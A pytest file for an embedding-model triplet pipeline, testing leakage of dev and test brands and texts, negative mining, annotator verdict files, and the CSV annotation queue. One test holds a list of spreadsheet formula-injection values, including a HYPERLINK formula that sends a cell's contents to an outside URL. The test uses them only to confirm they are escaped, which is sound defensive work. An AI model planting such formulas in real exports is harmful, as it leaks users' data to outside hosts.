"""gen_triplets: training split only, safe negatives, label safety, and the annotation loop."""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from wb_embedder.brand_mentions import BrandMatcher, eval_brand_spellings
from wb_embedder.clean import product_text
from wb_embedder.config import Params
from wb_embedder.evaluation.embedding_cache import EmbeddingCache
from wb_embedder.labels import review_polarity
from wb_embedder.triplets.annotation import (
    QUEUE_COLUMNS,
    AnnotationError,
    Verdicts,
    read_annotation_table,
    read_verdicts,
    triplet_id,
    write_queue,
)
from wb_embedder.triplets.generate import TripletsError, UnitEncoder, embedding_cache, generate_triplets
from wb_embedder.triplets.tasks import search_query_pairs

pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")


@pytest.fixture(scope="module")
def base_model(offline_model_dir: Path, tiny_params: Params):
    from sentence_transformers import SentenceTransformer

    model = SentenceTransformer(str(offline_model_dir), device="cpu")
    model.max_seq_length = tiny_params.model.max_seq_length
    return model


@pytest.fixture(scope="module")
def shared_cache(base_model, tiny_params: Params) -> EmbeddingCache:
    """One embedding cache for the module: each run would otherwise re-encode the same texts."""
    return embedding_cache(base_model, tiny_params.triplets.annotation.encode_batch_size)


def _with_strategy(params: Params, strategy: str, **annotation: object):
    negatives = params.triplets.negatives.model_copy(update={"strategy": strategy})
    ann = params.triplets.annotation.model_copy(update=annotation)
    return params.triplets.model_copy(update={"negatives": negatives, "annotation": ann})


@pytest.fixture(scope="module")
def mined(
    tiny_params: Params, tiny_clean: dict[str, pd.DataFrame], tiny_synonyms: pd.DataFrame, base_model, shared_cache
):
    cfg = _with_strategy(tiny_params, "mined")
    return generate_triplets(
        tiny_clean,
        tiny_synonyms,
        cfg,
        tiny_params.benchmarks,
        tiny_params.model.prompts,
        base_model,
        Verdicts({}),
        tiny_params.seed,
        shared_cache,
    )


def _texts_by_split(tables: dict[str, pd.DataFrame], split: str) -> set[str]:
    out: set[str] = set()
    products = tables["products"][tables["products"]["split"] == split]
    out |= set(products["title"]) | set(product_text(products))
    for name, columns in {
        "search_log": ["query"],
        "reviews": ["text"],
        "product_qa": ["question"],
        "support": ["question", "fact"],
    }.items():
        frame = tables[name][tables[name]["split"] == split]
        for column in columns:
            out |= set(frame[column])
    return out


def test_every_enabled_task_produces_rows(mined, tiny_params: Params) -> None:
    rows, manifest, _, stats = mined
    enabled = {t for tasks in tiny_params.triplets.groups.values() for t in tasks}
    assert set(rows) == enabled == set(manifest["tasks"])
    for task, frame in rows.items():
        assert len(frame) > 0, (task, stats["tasks"][task])
        assert manifest["tasks"][task]["rows"] == len(frame)
        assert list(frame.columns[:3]) == ["anchor", "positive", "negative_1"]


def test_no_dev_or_test_brand_in_any_training_text(mined, tiny_synonyms: pd.DataFrame) -> None:
    """The brand leak fixed at the root: no anchor, positive or negative mentions a WBBrandSyns
    dev / test brand by name or by any variant, and the withheld rows are counted."""
    rows, _, _, stats = mined
    matcher = BrandMatcher(eval_brand_spellings(tiny_synonyms, ["dev", "test"]))
    assert matcher
    for task, frame in rows.items():
        for column in frame.columns:
            if column == "label":
                continue
            leaked = [t for t in frame[column] if matcher.mentions(t)]
            assert not leaked, f"{task}.{column}: {leaked[:2]}"
    withheld = stats["withheld_eval_brand_mentions"]
    assert withheld["products"] > 0 and withheld["brands"] > 0


def test_brand_matcher_finds_names_and_variants_as_whole_words() -> None:
    matcher = BrandMatcher({"Adidas": {"адидас", "addidas"}, "Tom Ford": {"том форд"}})
    assert matcher.brands_in("Кроссовки АДИДАС 42") == {"Adidas"}
    assert matcher.brands_in("духи том форд и adidas") == {"Adidas", "Tom Ford"}
    assert not matcher.mentions("адидасовский стиль")  # part of a word is not a mention
    assert not matcher.mentions("том")


def test_no_eval_split_text_in_any_output(mined, tiny_clean: dict[str, pd.DataFrame]) -> None:
    rows, _, queue, _ = mined
    test_texts = (_texts_by_split(tiny_clean, "test") | _texts_by_split(tiny_clean, "dev")) - _texts_by_split(
        tiny_clean, "train")
    assert test_texts
    for task, frame in rows.items():
        for column in frame.columns:
            if column == "label":
                continue
            leaked = set(frame[column]) & test_texts
            assert not leaked, f"{task}.{column}: {sorted(leaked)[:2]}"
    for column in ["anchor", "positive", "negative"]:
        assert not set(queue[column]) & test_texts


def test_no_negative_equals_or_duplicates_its_positive(mined, tiny_clean: dict[str, pd.DataFrame]) -> None:
    rows, _, _, _ = mined
    products = tiny_clean["products"]
    title_of = dict(zip(product_text(products), products["title"].str.lower(), strict=True))
    for task, frame in rows.items():
        negatives = [c for c in frame.columns if c.startswith("negative_")]
        for column in negatives:
            assert (frame[column].str.lower() != frame["positive"].str.lower()).all(), task
            same_title = [
                title_of.get(p) is not None and title_of.get(p) == title_of.get(n)
                for p, n in zip(frame["positive"], frame[column], strict=True)
            ]
            assert not any(same_title), task
            assert (frame[column] != frame["anchor"]).all(), task


def test_classification_negatives_never_share_the_anchor_label(
    mined, tiny_clean: dict[str, pd.DataFrame], tiny_params: Params
) -> None:
    rows, _, _, _ = mined
    reviews = tiny_clean["reviews"]
    label_maps = {
        "review_rating": dict(zip(reviews["text"], reviews["rating"].astype(str), strict=True)),
        "review_reason": dict(zip(reviews["text"], reviews["reason"], strict=True)),
        "review_polarity": dict(
            zip(reviews["text"], review_polarity(reviews["rating"], tiny_params.benchmarks.review_polarity), strict=True)
        ),
        "support_intent": dict(zip(tiny_clean["support"]["question"], tiny_clean["support"]["intent"], strict=True)),
    }
    for task, labels in label_maps.items():
        frame = rows[task]
        assert len(frame)
        for row in frame.itertuples(index=False):
            assert labels[row.anchor] == row.label == labels[row.positive]
            assert labels[row.negative_1] != row.label, (task, row)


@pytest.mark.parametrize("strategy", ["random", "same_category", "fusion_multineg"])
def test_other_strategies(
    strategy: str, tiny_params: Params, tiny_clean, tiny_synonyms, base_model, shared_cache
) -> None:
    cfg = _with_strategy(tiny_params, strategy)
    rows, manifest, _, stats = generate_triplets(
        tiny_clean, tiny_synonyms, cfg, tiny_params.benchmarks, tiny_params.model.prompts, base_model, Verdicts({}),
        tiny_params.seed, shared_cache,
    )
    assert manifest["strategy"] == strategy
    wanted = cfg.negatives.fusion_num_negatives if strategy == "fusion_multineg" else cfg.negatives.num_negatives
    frame = rows["search_query"]
    assert len(frame) and [c for c in frame.columns if c.startswith("negative_")] == [
        f"negative_{i + 1}" for i in range(wanted)
    ]
    if strategy == "fusion_multineg":
        assert frame["positive"].str.contains("название: ").all()
    assert stats["totals"]["rows"] == sum(len(f) for f in rows.values())


def test_verdicts_change_the_output(
    tiny_params: Params, tiny_clean, tiny_synonyms, base_model, shared_cache, tmp_path: Path
) -> None:
    # Queue everything (uncertain_below very high) so there is something to judge.
    cfg = _with_strategy(tiny_params, "mined", uncertain_below=10.0, false_negative_below=-10.0, max_queue=100_000)
    prompts, seed = tiny_params.model.prompts, tiny_params.seed
    rows, _, queue, stats = generate_triplets(
        tiny_clean, tiny_synonyms, cfg, tiny_params.benchmarks, prompts, base_model, Verdicts({}), seed, shared_cache
    )
    sq = queue[queue["task"] == "support_facts"].reset_index(drop=True)
    assert len(sq) >= 3 and stats["totals"]["queued"] > 0
    rejected, swapped, accepted = sq.iloc[0], sq.iloc[1], sq.iloc[2]
    verdict_file = tmp_path / "verdicts.csv"
    pd.DataFrame(
        [
            {"triplet_id": rejected.triplet_id, "verdict": "reject", "note": "same meaning"},
            {"triplet_id": swapped.triplet_id, "verdict": "swap", "note": ""},
            {"triplet_id": accepted.triplet_id, "verdict": "Accept", "note": ""},
            {"triplet_id": "0123456789abcdef", "verdict": "accept", "note": "a triplet that no longer exists"},
            {"triplet_id": "fedcba9876543210", "verdict": "", "note": "not judged yet"},
        ]
    ).to_csv(verdict_file, index=False)
    verdicts = read_verdicts(tmp_path)
    assert len(verdicts.by_id) == 4

    # Strict thresholds now: the accepted triplet must survive a score that would filter it.
    strict = _with_strategy(tiny_params, "mined", uncertain_below=10.0, false_negative_below=9.0)
    rows2, _, queue2, stats2 = generate_triplets(
        tiny_clean, tiny_synonyms, strict, tiny_params.benchmarks, prompts, base_model, verdicts, seed, shared_cache
    )
    out = rows2["support_facts"]
    triples = set(zip(out["anchor"], out["positive"], out["negative_1"], strict=True))
    assert (rejected.anchor, rejected.positive, rejected.negative) not in triples
    assert (swapped.anchor, swapped.negative, swapped.positive) in triples
    assert (accepted.anchor, accepted.positive, accepted.negative) in triples
    assert stats2["tasks"]["support_facts"]["rejected"] == 1
    assert stats2["tasks"]["support_facts"]["swapped"] == 1
    assert stats2["tasks"]["support_facts"]["accepted"] == 1
    assert stats2["annotation"]["stale_verdicts"] == 1
    assert stats2["annotation"]["verdicts"] == {"reject": 1, "swap": 1, "accept": 2}
    assert accepted.triplet_id not in set(queue2["triplet_id"])
    # Without verdicts, the strict thresholds drop everything from that task as false negatives
    # (a task left with no row is skipped altogether, and absent from the output).
    rows3, _, _, _ = generate_triplets(
        tiny_clean, tiny_synonyms, strict, tiny_params.benchmarks, prompts, base_model, Verdicts({}), seed, shared_cache
    )
    assert "support_facts" not in rows3 or (accepted.anchor, accepted.positive, accepted.negative) not in set(
        zip(
            rows3["support_facts"]["anchor"],
            rows3["support_facts"]["positive"],
            rows3["support_facts"]["negative_1"],
            strict=True,
        )
    )
    # Under the lenient thresholds the rejected negative is re-mined: its pair keeps a row, with
    # another negative (under the strict ones any re-mined negative is itself filtered).
    rows4, _, _, _ = generate_triplets(
        tiny_clean, tiny_synonyms, cfg, tiny_params.benchmarks, prompts, base_model, verdicts, seed, shared_cache
    )
    lenient = rows4["support_facts"]
    again = lenient[(lenient["anchor"] == rejected.anchor) & (lenient["positive"] == rejected.positive)]
    assert len(again) == 1 and again["negative_1"].item() != rejected.negative


def test_triplet_id_is_a_content_hash() -> None:
    assert triplet_id("t", "a", "p", "n") == triplet_id("t", "a", "p", "n")
    assert triplet_id("t", "a", "p", "n") != triplet_id("t", "a", "n", "p")


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("triplet_id,verdict\nabc,maybe\n", r"verdicts.csv: row 1, column 'verdict': 'maybe' is not one of"),
        ("triplet_id,note\nabc,x\n", r"verdicts.csv: missing column 'verdict'"),
        ("triplet_id,verdict\nabc,accept\nabc,reject\n", r"row 2, column 'verdict': 'reject' contradicts"),
        ("triplet_id,verdict\n,accept\n", r"row 1, column 'triplet_id': empty"),
    ],
)
def test_bad_verdict_files(tmp_path: Path, content: str, message: str) -> None:
    (tmp_path / "verdicts.csv").write_text(content, encoding="utf-8")
    with pytest.raises(AnnotationError, match=message):
        read_verdicts(tmp_path)


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"triplet_id,verdict\nabc,accept\ndef,reject,extra\n", r"verdicts.csv: row 2: 3 fields, the header has 2"),
        (b"triplet_id,verdict,note\nabc,accept\n", r"verdicts.csv: row 1: 2 fields, the header has 3"),
        (b"", r"verdicts.csv: empty file"),
        ("triplet_id,verdict,note\nabc,accept,ок\ndef,reject,плохой негатив\n".encode("cp1251"),
         r"verdicts.csv: row 1, column 'note': not UTF-8"),
    ],
)
def test_malformed_verdict_files_name_file_and_row_in_one_line(tmp_path: Path, content: bytes, message: str) -> None:
    (tmp_path / "verdicts.csv").write_bytes(content)
    with pytest.raises(AnnotationError, match=message) as err:
        read_verdicts(tmp_path)
    assert "\n" not in str(err.value) and str(tmp_path / "verdicts.csv") in str(err.value)


HOSTILE = ['=HYPERLINK("http://example.com/?"&A1,"click")', "=1+1", "+7 999 123-45-67", "-10% скидка",
           "@user", "\tтаб", "\rвозврат", "'=уже в кавычках", "'просто кавычка", "обычный текст", "''"]


def test_queue_cells_never_start_a_formula_and_read_back_unchanged(tmp_path: Path) -> None:
    queue = pd.DataFrame(
        [{"triplet_id": triplet_id("t", text, "p", "n"), "task": "review_reason", "anchor": text, "positive": text,
          "negative": "n", "positive_score": -0.5, "negative_score": 0.25, "overlap": 0.0, "confidence": -0.75,
          "verdict": "", "note": ""} for text in HOSTILE],
        columns=QUEUE_COLUMNS,
    )
    path = tmp_path / "annotation_queue.csv"
    write_queue(queue, path)
    with open(path, encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row[2:5]]  # the text columns
    assert cells and not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'=1+1" in cells and "'-10% скидка" in cells

    back = read_annotation_table(path)
    for column in ("triplet_id", "task", "anchor", "positive", "negative"):
        assert back[column].tolist() == queue[column].tolist(), column
    # A judged copy of the queue, as a person saves it from the spreadsheet, keys the same triplets.
    with open(path, encoding="utf-8", newline="") as handle:
        header, *rows = list(csv.reader(handle))
    (tmp_path / "annotations").mkdir()
    with open(tmp_path / "annotations" / "judged.csv", "w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([header, *[[*row[:-2], "accept", row[-1]] for row in rows]])
    assert read_verdicts(tmp_path / "annotations").by_id == {tid: "accept" for tid in queue["triplet_id"]}


def test_unknown_task_in_groups_is_named(tiny_params: Params, tiny_clean, tiny_synonyms, base_model) -> None:
    groups = {**tiny_params.triplets.groups, "retrieval": ["search_qeury"]}
    cfg = tiny_params.triplets.model_copy(update={"groups": groups})
    with pytest.raises(TripletsError, match="unknown task 'search_qeury'"):
        generate_triplets(
            tiny_clean, tiny_synonyms, cfg, tiny_params.benchmarks, tiny_params.model.prompts, base_model, Verdicts({}), 1
        )


def test_training_grades_follow_the_benchmarks_rule(tiny_clean: dict[str, pd.DataFrame], tiny_params: Params) -> None:
    """Search positives are graded by benchmarks.search_grades, the rule the benchmarks score by."""
    products = tiny_clean["products"].head(3)
    nm = products["nmid"].tolist()
    log = pd.DataFrame({"query": ["q1", "q1"], "nmid": nm[:2], "shows": [5, 5], "views": [0, 2], "carts": [0, 0]})
    cfg, rules, seed = tiny_params.triplets.positives, tiny_params.benchmarks, tiny_params.seed
    assert search_query_pairs(products, log, cfg, rules, seed).pairs["positive_key"].tolist() == [f"nm{nm[1]}"]
    # Grading a show as relevant (show: 1) makes the product only shown a positive too.
    shown = rules.model_copy(update={"search_grades": rules.search_grades.model_copy(update={"show": 1})})
    pairs = search_query_pairs(products, log, cfg, shown, seed).pairs
    assert sorted(pairs["positive_key"]) == sorted(f"nm{n}" for n in nm[:2])


def test_unit_encoder_sends_texts_sorted_and_keeps_their_rows() -> None:
    """The model sees the texts in one order whatever order they were asked in (its batches, hence
    its floats, depend on that order); the rows come back aligned with the request."""

    class Model:
        def __init__(self) -> None:
            self.calls: list[tuple[list[str], dict]] = []

        def encode(self, texts: list[str], **kwargs: object) -> np.ndarray:
            self.calls.append((list(texts), kwargs))
            return np.array([[len(t), ord(t[0])] for t in texts], dtype=np.float32)

    model = Model()
    out = UnitEncoder(model, 4).encode(["b", "aa", "c"], "p: ")
    assert model.calls[0][0] == ["aa", "b", "c"]
    assert model.calls[0][1]["normalize_embeddings"] is True and model.calls[0][1]["prompt"] == "p: "
    assert out.tolist() == [[1, 98], [2, 97], [1, 99]]


def test_runs_fill_the_shared_cache(mined, shared_cache: EmbeddingCache) -> None:
    # The module's first run got the cache empty (falsy: len 0) and must still have filled it.
    assert len(shared_cache) > 0 and shared_cache.encoded == len(shared_cache)


@pytest.mark.parametrize("card_text", ["fields", "natural"])
def test_unsupervised_samples_are_the_kept_training_rows(
    card_text: str, mined, tiny_params: Params, tiny_clean, tiny_synonyms, base_model, shared_cache, tmp_path: Path
) -> None:
    """triplets.unsupervised: one text per training row kept for training (the rows the triplets
    are drawn from), per source table, none from dev or test, none naming an evaluated brand;
    counted in the stats; the leakage audit reads them; the task files stay as without them."""
    from wb_embedder.leakage.audit import training_texts
    from wb_embedder.triplets.tasks import training_tables
    from wb_embedder.triplets.unsupervised import sample_texts

    unsupervised = tiny_params.triplets.unsupervised.model_copy(update={"enabled": True, "card_text": card_text})
    cfg = _with_strategy(tiny_params, "mined").model_copy(update={"unsupervised": unsupervised})
    rows, manifest, queue, stats = generate_triplets(
        tiny_clean, tiny_synonyms, cfg, tiny_params.benchmarks, tiny_params.model.prompts, base_model, Verdicts({}),
        tiny_params.seed, shared_cache,
    )
    samples = rows.pop("unsupervised")
    mined_rows, mined_manifest, mined_queue, mined_stats = mined
    assert rows.keys() == mined_rows.keys()
    for task, frame in rows.items():
        pd.testing.assert_frame_equal(frame, mined_rows[task])
    pd.testing.assert_frame_equal(queue, mined_queue)
    assert {k: v for k, v in stats.items() if k != "unsupervised"} == mined_stats
    assert manifest.pop("unsupervised") == {"file": "unsupervised.parquet", "rows": len(samples), "card_text": card_text}
    assert manifest == mined_manifest

    assert list(samples.columns) == ["anchor", "source"] and stats["unsupervised"]["samples"] == len(samples)
    training = training_tables(tiny_clean, tiny_synonyms)
    counts = stats["unsupervised"]["sources"]
    assert list(counts) == list(unsupervised.sources) == ["products", "reviews", "product_qa", "support"]
    for source, count in counts.items():
        table = tiny_clean[source]
        assert count["train_rows"] == (table["split"] == "train").sum() < len(table)
        kept = len(training.tables[source])
        assert count["withheld_eval_brand_rows"] == count["train_rows"] - kept
        assert count["samples"] == kept - count["withheld_eval_brand_text"] == (samples["source"] == source).sum()
    assert counts["products"]["withheld_eval_brand_rows"] > 0  # the withholding did happen

    evaluated = set()
    for source in unsupervised.sources:
        table = tiny_clean[source]
        evaluated |= set(sample_texts(table[table["split"] != "train"], source, card_text))
    assert evaluated and not set(samples["anchor"]) & evaluated
    matcher = BrandMatcher(eval_brand_spellings(tiny_synonyms, ["dev", "test"]))
    assert not [t for t in samples["anchor"] if matcher.mentions(t)]
    cards = set(samples.loc[samples["source"] == "products", "anchor"])
    if card_text == "natural":
        assert cards <= set(product_text(training.tables["products"]))
    else:
        assert all(t.startswith("название: ") for t in cards)

    # Written as the stage writes data/triplets: the leakage audit's training texts include them.
    for name, frame in {**rows, "unsupervised": samples}.items():
        frame.to_parquet(tmp_path / f"{name}.parquet", index=False)
    assert set(samples["anchor"]) <= set(training_texts(tmp_path))
